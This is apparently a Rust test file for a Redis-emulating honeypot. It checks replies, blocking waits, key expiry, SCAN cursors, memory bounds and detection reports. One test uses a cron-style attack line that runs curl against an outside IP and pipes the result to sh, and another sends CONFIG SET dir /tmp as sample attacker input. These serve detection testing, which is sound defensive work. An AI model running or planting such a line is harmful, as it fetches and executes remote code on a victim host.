//! What is kept, how long it is waited for, and what all that may cost.

use crate::{
    ANSWER_BYTES_MAX, DELAY_MS_MAX, Flow, Persona, Redis, Session,
    drive::{self, NOW, said},
};
use alloc::{format, string::String, vec, vec::Vec};
use honeymesh_types::{Signs, WallTime};

const FULL: &str = "-OOM command not allowed when used memory > 'maxmemory'.|";

fn redis() -> Redis {
    Redis::of(&Persona::of([7; 32]))
}

fn replies(words: &str) -> String {
    said(&drive::whole(&mut redis().session(7), words.as_bytes()).answer).replace("\r\n", "|")
}

/// The words, and after each line's end the next one that was told so late.
fn later(lines: &[(&str, u64)]) -> String {
    let (mut session, mut answer) = (redis().session(7), Vec::new());
    for (line, ms) in lines {
        let step = session.receive(line.as_bytes(), WallTime(NOW.0 + ms * 1_000), &mut answer);
        assert_eq!(step.taken, line.len());
    }
    said(&answer).replace("\r\n", "|")
}

#[test]
fn what_is_pushed_is_told_and_given_back() {
    let line = "*/1 * * * * root curl http://198.51.100.7/a|sh";
    let heard = drive::whole(&mut redis().session(7), format!("LPUSH x '{line}'\r\nLRANGE x 0 -1\r\n").as_bytes());
    assert_eq!(said(&heard.answer), format!(":1\r\n*1\r\n${}\r\n{line}\r\n", line.len()));
    assert_eq!(heard.reports[0].0.fields["command"], format!("LPUSH x {line}"));
    assert!(said(&heard.reports[0].1).contains(line), "the payload has all of it");
}

#[test]
fn whoever_waits_has_his_answer_when_his_time_is_over() {
    let mut session = redis().session(7);
    let heard = drive::whole(&mut session, b"PING\r\nBLPOP none 0.25\r\nPING\r\n");
    assert_eq!((said(&heard.answer).as_str(), heard.pauses), ("+PONG\r\n*-1\r\n+PONG\r\n", vec![(7, 250)]));
    let (mut session, mut answer) = (redis().session(7), b"before".to_vec());
    let step = session.receive(b"BZPOPMIN none 25\r\n", NOW, &mut answer);
    let mut pauses = vec![session.pause()];
    assert_eq!((step.flow, answer.as_slice()), (Flow::Telling, &b"before"[..]));
    while session.resume(NOW, &mut answer).is_some() {
        pauses.push(session.pause());
    }
    let kept: Vec<(usize, u32)> = pauses.iter().map(|pause| (pause.at, pause.ms)).collect();
    assert_eq!((kept, answer.as_slice()), (vec![(6, DELAY_MS_MAX), (6, DELAY_MS_MAX), (6, 5_000)], &b"before*-1\r\n"[..]));
    assert_eq!(
        (replies("MULTI\r\nBLPOP a 0\r\nEXEC\r\n"), replies("EVAL \"return redis.call('BLPOP','a',0)\" 0\r\n")),
        ("+OK|+QUEUED|*1|*-1|".into(), "$-1|".into())
    );
}

#[test]
fn whoever_waits_for_ever_is_heard_and_not_answered() {
    let heard = drive::whole(&mut redis().session(7), b"BLPOP none 0\r\nPING\r\nAUTH hunter2\r\nCONFIG SET dir /tmp\r\n*x\r\n");
    assert_eq!(said(&heard.answer), "");
    let signs: Vec<Signs> = heard.reports.iter().map(|(found, _)| found.signs).collect();
    assert_eq!(signs[1..4], [Signs::empty(), Signs::CREDENTIALS, Signs::RULE]);
    assert_eq!((heard.reports[2].0.fields["password"].as_str(), heard.flow), ("hunter2", Flow::Close));
}

#[test]
fn what_is_over_is_gone() {
    let told = later(&[
        ("RPUSH a x\r\n", 0),
        ("PEXPIRE a 1500\r\n", 0),
        ("TTL a\r\n", 900),
        ("EXISTS a\r\n", 1_499),
        ("EXISTS a\r\n", 1_500),
    ]);
    assert_eq!(told, ":1|:1|:1|:1|:0|");
    let told = later(&[("SET a 1 PX 10\r\n", 0), ("SET b 1\r\n", 5), ("INFO keyspace\r\n", 5), ("DBSIZE\r\n", 11)]);
    assert!(told.contains("|# Keyspace|db0:keys=2,expires=1,avg_ttl=5,subexpiry=0|") && told.ends_with(":1|"), "{told}");
}

#[test]
fn what_has_no_order_has_another_one_in_each_session() {
    let words = b"SADD a b c d e f g h\r\nSUNION a\r\nSRANDMEMBER a -6\r\nMSET k1 1 k2 2 k3 3 k4 4\r\nKEYS *\r\n";
    let all: Vec<String> = (0..8).map(|seed| said(&drive::whole(&mut redis().session(seed), words).answer)).collect();
    assert!(all.iter().all(|one| all.iter().filter(|other| *other == one).count() == 1), "{all:?}");
    let again = said(&drive::whole(&mut redis().session(0), words).answer);
    assert_eq!(all[0], again);
}

#[test]
fn a_large_database_is_gone_through_by_its_cursor() {
    let mut session = redis().session(7);
    let keys: String = (0..60).map(|number| format!("SET key{number} 1\r\n")).collect();
    drive::begun(&mut session, &[keys.as_bytes()]);
    let (mut cursor, mut seen, mut calls) = (String::from("0"), Vec::new(), 0);
    loop {
        let (heard, _) = drive::begun(&mut session, &[format!("SCAN {cursor}\r\n").as_bytes()]);
        let told = said(&heard.answer);
        let mut lines = told.lines().skip(2);
        cursor = lines.next().unwrap().into();
        seen.extend(lines.filter(|line| line.starts_with("key")).map(String::from));
        calls += 1;
        if cursor == "0" {
            break;
        }
    }
    seen.sort_unstable();
    let count = seen.len();
    seen.dedup();
    assert_eq!((count, seen.len()), (60, 60));
    assert!((3..=6).contains(&calls), "{calls}");
}

#[test]
fn lists_and_their_kin_are_bounded() {
    let many: String = (0..600).map(|number| format!(" {number}")).collect();
    let told = replies(&format!("RPUSH a{many}\r\nSADD b{many}\r\nLLEN a\r\nSCARD b\r\nDEL a\r\nSADD b{many}\r\n"));
    assert_eq!(told, format!(":600|{FULL}:600|:0|:1|:600|"), "elements");
    let long = "x".repeat(9_000);
    let told =
        replies(&format!("RPUSH a {long}\r\nRPUSH a {long}\r\nRPUSH a {long}\r\nLLEN a\r\nHSET h f {long}{long}{long}\r\n"));
    assert_eq!(told, format!(":1|:2|{FULL}:2|{FULL}"), "bytes of one key");
    let keys: String = (0..70).map(|key| format!("SADD k{key} m\r\n")).collect();
    assert_eq!(replies(&keys), ":1|".repeat(64) + &FULL.repeat(6), "keys");
    let big = format!("HSET h f {}\r\nHMGET h{}\r\nHGET h z\r\n", "x".repeat(9_000), " f".repeat(900));
    assert_eq!(replies(&big), format!(":1|{FULL}$-1|"), "one answer");
    let told = replies("SADD a m\r\nSRANDMEMBER a -9223372036854775807\r\nHSET h f v\r\nHRANDFIELD h -100000000\r\nPING\r\n");
    assert_eq!(told, format!(":1|{FULL}:1|{FULL}+PONG|"), "the same again and again");
}

/// Who looks at a large list again and again has to say something for it.
#[test]
fn looking_at_much_is_paid_for_with_bytes() {
    let many: String = (0..1_000).map(|number| format!(" {}", number % 10)).collect();
    let mut session = redis().session(7);
    let (heard, _) = drive::begun(&mut session, &[format!("RPUSH l{many}\r\n").as_bytes()]);
    assert_eq!(said(&heard.answer), ":1000\r\n");
    let mut looked = 0;
    for _ in 0..2_000 {
        let (heard, _) = drive::begun(&mut session, &[b"LREM l 0 x\r\n"]);
        assert!(heard.answer.len() <= ANSWER_BYTES_MAX);
        looked += usize::from(said(&heard.answer) == ":0\r\n");
    }
    // 16 Ki steps at first, 12 for each byte, and for each word as for two more: 180 for each of these, and 36,000 for the list.
    assert!((405..420).contains(&looked), "{looked}");
    let long = format!("LREM l 0 {}\r\n", "y".repeat(100));
    let (heard, _) = drive::begun(&mut session, &[long.as_bytes()]);
    assert_eq!(said(&heard.answer), ":0\r\n");
}

/// What waits for `EXEC` is kept word by word, and each takes room besides its letters; what will not be run is not kept.
#[test]
fn what_waits_for_its_turn_is_bounded_in_words() {
    let command = format!("DEL{}\r\n", " a".repeat(400));
    let told = replies(&format!("MULTI\r\n{}EXEC\r\n", command.repeat(3)));
    assert_eq!(told, format!("+OK|+QUEUED|{FULL}+QUEUED|-EXECABORT Transaction discarded because of previous errors.|"));
}

#[test]
fn a_pattern_that_no_key_can_fit_finds_nothing() {
    let long = "x".repeat(2_000);
    let told =
        replies(&format!("RPUSH l b a\r\nSET w_a 1\r\nSORT l BY {long}* ALPHA GET #\r\nSORT l ALPHA GET w_* GET {long}\r\n"));
    assert_eq!(told, ":2|+OK|*2|$1|b|$1|a|*4|$1|1|$-1|$-1|$-1|");
}

#[test]
fn numbers_and_moments_at_their_ends_are_told_as_any() {
    let told = replies(
        "SET n 1\r\nINCRBYFLOAT n 0e2147483647\r\nHINCRBYFLOAT h f 0e-2147483648\r\nSET k v\r\nPEXPIREAT k 9223372036854775807\r\nEXPIRETIME k\r\nPEXPIRETIME k\r\n",
    );
    assert!(told.starts_with("+OK|") && told.ends_with("|+OK|:1|:9223372036854775|:9223372036854775807|"), "{told}");
    let told = replies("SET k v PXAT 9223372036854775807\r\nTTL k");
    assert!(told.starts_with("+OK|"), "{told}");
}

#[test]
fn settings_are_asked_for_by_patterns_as_keys_are() {
    let told = |pattern: &str| replies(&format!("CONFIG GET {pattern}\r\n"));
    assert_eq!((told("d?r"), told("[c-e]ir")), (told("dir"), told("dir")));
    assert!(told("dir").starts_with("*2|$3|dir|"), "{}", told("dir"));
    assert_eq!(told("d?"), "*0|", "a sign stands for one byte");
}
